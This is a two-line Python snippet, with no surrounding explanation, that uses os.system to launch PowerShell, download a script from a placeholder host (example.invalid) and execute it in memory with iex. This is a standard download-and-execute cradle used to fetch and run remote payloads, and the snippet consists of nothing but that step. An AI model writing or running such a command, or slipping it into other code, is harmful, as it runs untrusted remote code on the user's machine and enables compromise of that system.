import os
os.system("powershell -c \"iex (New-Object Net.WebClient).DownloadString('http://example.invalid/a.ps1')\"")
